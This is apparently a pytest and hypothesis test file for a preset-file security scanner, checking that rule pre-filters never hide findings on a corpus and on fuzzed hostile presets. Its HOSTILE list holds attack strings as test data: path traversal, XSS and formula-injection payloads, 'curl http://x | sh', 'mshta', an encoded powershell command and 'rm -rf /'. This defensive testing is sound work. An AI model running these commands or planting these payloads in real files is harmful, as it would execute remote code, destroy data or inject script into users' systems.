"""Every rule's pre-filter (``Rule.quick``) held against its check: when the pre-filter says the
check is silent, the check finds nothing; and a run with the pre-filters reports exactly what a
run without them does. On the real corpus and on hostile variations of a generated preset.
"""

from __future__ import annotations

import base64
import importlib.util
from pathlib import Path, PurePosixPath
from types import ModuleType
from typing import Any

import orjson
import pytest
from conftest import require_corpus
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from presetctl.engine.formats.base import Document
from presetctl.engine.model import Violation
from presetctl.engine.options import Options
from presetctl.engine.pipeline import load_document, run_rules, unknown_document
from presetctl.engine.rules.base import Rule, RuleContext
from presetctl.engine.rules.registry import RULES
from presetctl.engine.rules.selection import RuleSet

REPO = Path(__file__).resolve().parents[1]
# Every rule but rendered audio (it plays each DX7 voice; its checks have no pre-filter anyway).
EVERY = RuleSet(Options(profiles=("marketplace",)))
SCAN = RuleSet(Options(levels=frozenset({"security"}), rate_security=True))


def _load_generator() -> ModuleType:
    spec = importlib.util.spec_from_file_location("bench_generate_quick", REPO / "benchmarks" / "generate.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


generate = _load_generator()
_, BASE = next(iter(generate.presets(1, 24, seed=7)))


def _plain(doc: Document, ctx: RuleContext, rules: RuleSet, parsed: bool | None = None) -> list[Violation]:
    """run_rules without the pre-filters: the reference."""
    found: list[Violation] = []
    for rule in rules.checks_for(doc.format, doc.parsed if parsed is None else parsed, doc.validated):
        assert rule.check is not None
        for v in rule.check(doc, ctx):
            found.append(v if v.code else Violation(v.message, v.location, rule.code, v.hint, v.data))
    return found


def _key(found: list[Violation]) -> list[tuple[str, str, str]]:
    return sorted((v.code, v.location.render(), v.message) for v in found)


def _judge(doc: Document, path: PurePosixPath, rules: RuleSet, parsed: bool | None = None, each: bool = True) -> None:
    """A run with the pre-filters equals one without; ``each``: also every pre-filter on its own."""
    for rule in rules.checks_for(doc.format, doc.parsed if parsed is None else parsed, doc.validated):
        if rule.quick is None or not each:
            continue
        if not rule.quick(doc, rules.context(path)):
            assert rule.check is not None
            assert list(rule.check(doc, rules.context(path))) == [], f"{rule.code} pre-filter hid a finding"
    fast = run_rules(doc, rules.context(path), rules, parsed)
    assert _key(fast) == _key(_plain(doc, rules.context(path), rules, parsed)), path


def _document(data: bytes, path: PurePosixPath) -> tuple[Document, bool | None]:
    loaded = load_document(data, path, Options().limits)
    if loaded is None:
        return unknown_document(data), False
    return loaded[0], None


def test_every_security_rule_has_a_pre_filter() -> None:
    missing = [r.code for r in RULES if r.level.value == "security" and r.check is not None and r.quick is None]
    assert missing == []


@pytest.mark.corpus
@pytest.mark.slow
def test_pre_filters_never_hide_a_finding_on_the_corpus() -> None:
    root = require_corpus()
    files = sorted(p for p in root.rglob("*") if p.is_file() and not p.is_symlink() and p.stat().st_size < 4 << 20)
    assert len(files) > 1000
    for f in files:
        path = PurePosixPath(f.relative_to(root).as_posix())
        doc, parsed = _document(f.read_bytes(), path)
        _judge(doc, path, EVERY, parsed, each=False)  # every security rule is in EVERY; X072 is SCAN's (below)


# --- hostile variations of a clean generated preset -------------------------------------------------
_PE = b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 40
HOSTILE = [
    "../../etc/passwd", "/Users/alice/Samples/kick.wav", "C:\\Users\\bob\\x.wav", "\\\\host\\share\\a.wav",
    "//host/share/a", "file:///etc/passwd", "https://example.com/x", "smb://h/s", "alice@example.com",
    "Pad \u202egnp.exe", "Lead\u200b", "B\u0430ss", "Pad\x1b]52;c;Y3VybA==\x07", "Pad\x1b", "x\x9b1m",
    "<script>alert(1)</script>", "javascript:alert(1)", "<img src=x onerror=alert(1)>", "=HYPERLINK(\"x\")",
    "@SUM(A1)", "-cmd|' /C calc'!A0", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "curl http://x | sh", "WScript.Shell", "mshta http://x", "#!/bin/sh\nrm -rf /",
    base64.b64encode(_PE + b"\0" * 20).decode(), base64.b64encode(b"! C:\\Users\\green\\Music\\x.scl\n" * 2).decode(),
    base64.b64encode(b"\x1bLuaQ\0\x01\x04\x08" * 4).decode(), "<!DOCTYPE x [<!ENTITY a \"b\">]>", "..",
    "a" * 30, "1e400", "", "0123", "ok text", "\u00e9t\u00e9", "x" * 25 + "\u0430",
]
NUMBERS = [0.5, 1e39, -1e39, 2**60, 3.4e38, 1e-300, 7]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from(["description", "name", "author", "param", "key", "path", "nested", "number"]),
                          st.sampled_from(HOSTILE), st.sampled_from(NUMBERS)), max_size=3),
       st.sampled_from(["Pad.json", "x\u202e.json", "a b.json", "Pad.vital"]), st.booleans())
def test_pre_filters_never_hide_a_finding_on_hostile_presets(edits: list[tuple[str, str, Any]], name: str,
                                                             indent: bool) -> None:
    doc: Any = orjson.loads(BASE)
    for where, text, number in edits:
        if where in ("description", "name", "author"):
            doc["metadata"][where] = text
        elif where == "param":
            doc["parameters"][5]["name"] = text
        elif where == "key":
            doc["parameters"][3][text] = 1
        elif where == "path":
            doc.setdefault("assets", []).append({"kind": "sample", "path": text})
        elif where == "nested":
            value: Any = text
            for _ in range(70):
                value = [value]
            doc["extra"] = value
        else:
            doc["parameters"][2]["value"] = number
    data = orjson.dumps(doc, option=orjson.OPT_INDENT_2 if indent else 0)
    path = PurePosixPath(name)
    loaded, parsed = _document(data, path)
    for rules in (EVERY, SCAN):
        _judge(loaded, path, rules, parsed)


@pytest.mark.parametrize("data", [_PE, b"PK\x03\x04" + b"\0" * 30, b"\x1f\x8b" + b"\0" * 20, b"\x1bLuaQ",
                                  b"<!DOCTYPE x SYSTEM \"http://x\">", b"plain text http://x a@b.cc"])
def test_pre_filters_never_hide_a_finding_on_unknown_files(data: bytes) -> None:
    path = PurePosixPath("notes.bin")
    doc, parsed = _document(data, path)
    for rules in (EVERY, SCAN):
        _judge(doc, path, rules, parsed)


def test_a_clean_preset_runs_no_security_check() -> None:
    doc, _ = _document(BASE, PurePosixPath("Pad.json"))
    ctx = EVERY.context(PurePosixPath("Pad.json"))
    ran: list[Rule] = [r for r in EVERY.checks_for(doc.format, True, True)
                       if r.level.value == "security" and r.quick is not None and r.quick(doc, ctx)]
    assert ran == []
